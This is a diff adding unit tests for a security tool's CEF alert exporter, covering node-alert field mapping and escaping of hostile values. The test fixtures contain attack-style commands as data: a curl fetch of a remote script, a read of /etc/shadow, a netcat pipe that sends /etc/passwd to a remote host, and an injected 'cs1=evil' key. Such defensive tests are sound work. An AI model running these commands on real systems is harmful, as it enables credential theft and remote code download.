@@ -1,7 +1,7 @@
 import { type Alert } from '../../../../shared/alerts/alert';
-import { cefSeverityOf, escapeCefExtension, escapeCefHeader, toCefLine } from '../../../../shared/alerts/export/cefFormat';
+import { CEF_COMMAND_LINE_KEY, cefSeverityOf, escapeCefExtension, escapeCefHeader, toCefLine } from '../../../../shared/alerts/export/cefFormat';
 import { type Severity } from '../../../../shared/detection/rule';
-import { templateAlert, variedAlert } from '../../../support/alertFixtures';
+import { nodeAlert, templateAlert, variedAlert } from '../../../support/alertFixtures';
 
 const options = { productVersion: '1.2.3' };
 
@@ -235,6 +235,108 @@ describe('toCefLine', () => {
       const extension = new Map(parsed.extension);
       expect([extension.get('externalId'), extension.get('cs5'), parsed.severity]).toEqual([alert.id, alert.status, String(cefSeverityOf(alert.severity))]);
     }
+  });
+});
+
+describe('toCefLine for node alerts', () => {
+  const NODE = 'aks-nodepool1-12345678-vmss000000';
+  const connection = (): Alert => nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });
+  const commandLineOf = (alert: Alert): string | undefined => alert.entities.find((entity) => entity.type === 'process' && entity.role === 'process')?.commandLine;
+
+  it('when the alert names a connection and a file, then the node is the device and source host, the remote end is dst and dpt, and the process and file are mapped', () => {
+    const alert = connection();
+    const extension = extensionOf(alert);
+    expect(Object.fromEntries([...extension].filter(([key]) => !['rt', 'start', 'end', 'externalId', 'msg', 'flexString2', 'cs1'].includes(key)))).toEqual({
+      cat: 'Execution',
+      cnt: '1',
+      dvchost: NODE,
+      shost: NODE,
+      dst: '198.51.100.7',
+      dpt: '3333',
+      sproc: '/usr/bin/curl',
+      spid: '4242',
+      fname: 'shadow',
+      filePath: '/etc/shadow',
+      cs1Label: 'cluster',
+      cs2Label: 'namespace',
+      cs2: 'shop',
+      cs3Label: 'alertType',
+      cs3: 'K8S.NODE_FixtureActivity',
+      cs4Label: 'techniques',
+      cs4: 'T1059.004',
+      cs5Label: 'status',
+      cs5: 'Active',
+      cs6Label: 'pod',
+      cs6: 'web-7d4b9c6f5-x2x9k',
+      cn1Label: 'alertVersion',
+      cn1: '1',
+      flexString1Label: 'isSimulated',
+      flexString1: 'false',
+      flexString2Label: 'correlationKey',
+      [CEF_COMMAND_LINE_KEY]: '/usr/bin/curl -s http://203.0.113.50/x.sh',
+    });
+    expect(extension.get('cs1')).toBe(alert.clusterResourceId);
+  });
+
+  it('when a node alert is formatted, then it has no account and the remote address is never the source (src)', () => {
+    const extension = extensionOf(connection());
+    expect([extension.has('suser'), extension.has('src'), extension.has('dhost'), extension.has('requestClientApplication')]).toEqual([false, false, false, false]);
+  });
+
+  it('when the alert names no remote address, then the node is the destination host and there is no dst, dpt or shost', () => {
+    const extension = extensionOf(nodeAlert());
+    expect(extension.get('dhost')).toBe(NODE);
+    expect(extension.get('dvchost')).toBe(NODE);
+    for (const key of ['shost', 'dst', 'dpt', 'fname', 'filePath']) expect(extension.has(key)).toBe(false);
+  });
+
+  it('when the process has no pid or the remote end no port, then spid and dpt are left out', () => {
+    const extension = extensionOf(nodeAlert({ pid: null, remote: { address: '2001:db8::7' } }));
+    expect([extension.has('spid'), extension.has('dpt'), extension.get('dst')]).toEqual([false, false, '2001:db8::7']);
+  });
+
+  it('when a node alert is formatted, then the node keys come after the request keys and the command line comes last', () => {
+    const keys = parseCef(toCefLine(connection(), options)).extension.map(([key]) => key);
+    expect(keys).toEqual([
+      'rt', 'start', 'end', 'externalId', 'cat', 'cnt', 'msg',
+      'dvchost', 'shost', 'dst', 'dpt', 'sproc', 'spid', 'fname', 'filePath',
+      'cs1Label', 'cs1', 'cs2Label', 'cs2', 'cs3Label', 'cs3', 'cs4Label', 'cs4', 'cs5Label', 'cs5', 'cs6Label', 'cs6',
+      'cn1Label', 'cn1', 'flexString1Label', 'flexString1', 'flexString2Label', 'flexString2', CEF_COMMAND_LINE_KEY,
+    ]);
+  });
+
+  it.each(hostileValues)('when the command line, the file path and the binary hold %s, then the line is one line and reads back exactly', (_, hostile) => {
+    const alert = nodeAlert({ binary: `/tmp/x${hostile}`, arguments: hostile, filePath: `/etc/${hostile}`, remote: { address: '198.51.100.7', port: 443 } });
+    const line = toCefLine(alert, options);
+    expect(line.split(/\r\n|\r|\n/)).toHaveLength(1);
+    const parsed = parseCef(line);
+    const extension = new Map(parsed.extension);
+    expect(parsed.vendor).toBe('Argus');
+    expect(extension.get(CEF_COMMAND_LINE_KEY)).toBe(commandLineOf(alert));
+    expect(extension.get('sproc')).toBe(`/tmp/x${hostile}`);
+    expect(extension.get('filePath')).toBe(`/etc/${hostile}`);
+    expect(extension.get('dst')).toBe('198.51.100.7');
+    expect(extension.get('externalId')).toBe(alert.id);
+  });
+
+  it.each([
+    ['pipes', 'sh -c "cat /etc/passwd | nc 198.51.100.7 4444"', 'sh -c "cat /etc/passwd | nc 198.51.100.7 4444"'],
+    ['equals signs and a fake key', 'env suser=root cs1=evil', 'env suser\\=root cs1\\=evil'],
+    ['newlines', 'echo one\necho two\r\n', 'echo one\\necho two\\r\\n'],
+    ['backslashes', 'printf \\x41\\', 'printf \\\\x41\\\\'],
+  ])('when the command line holds %s, then it is escaped as the extension escapes values', (_, args, escaped) => {
+    const line = toCefLine(nodeAlert({ binary: '/bin/busybox', arguments: args }), options);
+    expect(line.endsWith(` ${CEF_COMMAND_LINE_KEY}=/bin/busybox ${escaped}`)).toBe(true);
+  });
+
+  it('when an audit alert names processes and files, then none of the node keys appear (audit lines are unchanged)', () => {
+    const alert: Alert = {
+      ...templateAlert(),
+      entities: [...templateAlert().entities, { type: 'process', commandLine: 'sh -c id' }, { type: 'file', name: '/etc/kubernetes' }, { type: 'host', name: 'aks-x' }],
+    };
+    const extension = extensionOf(alert);
+    for (const key of ['dvchost', 'dhost', 'shost', 'dst', 'dpt', 'sproc', 'spid', 'fname', 'filePath', CEF_COMMAND_LINE_KEY]) expect(extension.has(key)).toBe(false);
+    expect(extension.get('src')).toBe('203.0.113.24');
   });
 });
 
